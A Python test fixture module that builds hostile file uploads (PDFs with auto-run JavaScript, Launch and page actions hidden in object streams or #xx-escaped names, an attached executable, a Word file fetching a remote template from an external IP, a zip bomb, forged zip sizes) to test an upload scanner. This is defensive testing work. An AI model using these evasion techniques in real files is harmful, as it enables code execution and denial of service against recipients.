"""Hostile and clean uploads built in the test, never stored in the repository (F7)."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile

import docx
import pikepdf

from tests.factories import MINIMAL_PDF

MB = 1024 * 1024

# /OpenAction running JavaScript, written by hand.
PDF_OPEN_ACTION_JS = (
    b"%PDF-1.4\n"
    b"1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R>> endobj\n"
    b"2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n"
    b"3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>> endobj\n"
    b"4 0 obj <</S /JavaScript /JS (app.alert\\(document.cookie\\))>> endobj\n"
    b"trailer <</Size 5 /Root 1 0 R>>\n%%EOF\n"
)
# The same with its names written in #xx escapes: no plain "/JavaScript" in the bytes,
# so only reading the PDF's objects finds it.
PDF_ESCAPED_JS = PDF_OPEN_ACTION_JS.replace(b"/JavaScript", b"/J#61vaScript").replace(
    b"/JS ", b"/J#53 "
)


def _save(pdf: pikepdf.Pdf, **kwargs: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **kwargs)  # type: ignore[arg-type]
    return out.getvalue()


def pdf_launch_in_object_stream() -> bytes:
    """/OpenAction /Launch setup.exe, hidden in a compressed object stream."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("setup.exe"))
    )
    data = _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/Launch" not in data
    return data


def pdf_page_aa_in_object_stream() -> bytes:
    """A page's additional action (/AA), compressed: runs when the page opens."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name("/J#61vaScript"), JS=pikepdf.String("1"))
    )
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_attached_exe() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + b"\0" * 64)
    return _save(pdf)


def pdf_with_password() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _save(pdf, encryption=pikepdf.Encryption(user="secret", owner="owner"))


def pdf_clean_with_link() -> bytes:
    """A normal PDF: compressed objects, a web link (allowed), no actions that run."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 100, 20],
        A=pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("https://ocsc.go.th")
        ),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([link]))
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


CLEAN_PDFS = {"minimal": MINIMAL_PDF}


def clean_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("รายละเอียดโครงการพัฒนาแหล่งน้ำ")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_plus(*parts: tuple[str, bytes]) -> bytes:
    """The clean Word file with ``parts`` added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(clean_docx())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # a duplicate part name is one of the cases
            for name, data in parts:
                dst.writestr(name, data)
    return out.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 112
OLE_PACKAGE = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + b"\0" * 64
    + "\x01Ole10Native".encode("utf-16-le")
)
REMOTE_TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def zip_bomb(*, megabytes: int) -> bytes:
    """A .docx-shaped zip whose document part is ``megabytes`` MB of zeros (about
    1000:1), written in 1 MB steps so the test never holds it whole."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            zeros = b"\0" * MB
            for _ in range(megabytes):
                part.write(zeros)
    return out.getvalue()


def zip_lying_about_size() -> bytes:
    """A part that says it is 1,000 bytes and inflates to 2 MB (headers patched)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<w/>" * (MB // 2))
    data = bytearray(out.getvalue())
    true_size = struct.pack("<I", 2 * MB)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) != -1:
            if data[at + offset : at + offset + 4] == true_size:
                data[at + offset : at + offset + 4] = struct.pack("<I", 1000)
            start = at + 4
    assert bytes(data) != out.getvalue()
    return bytes(data)


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", b"hello")
    return out.getvalue()
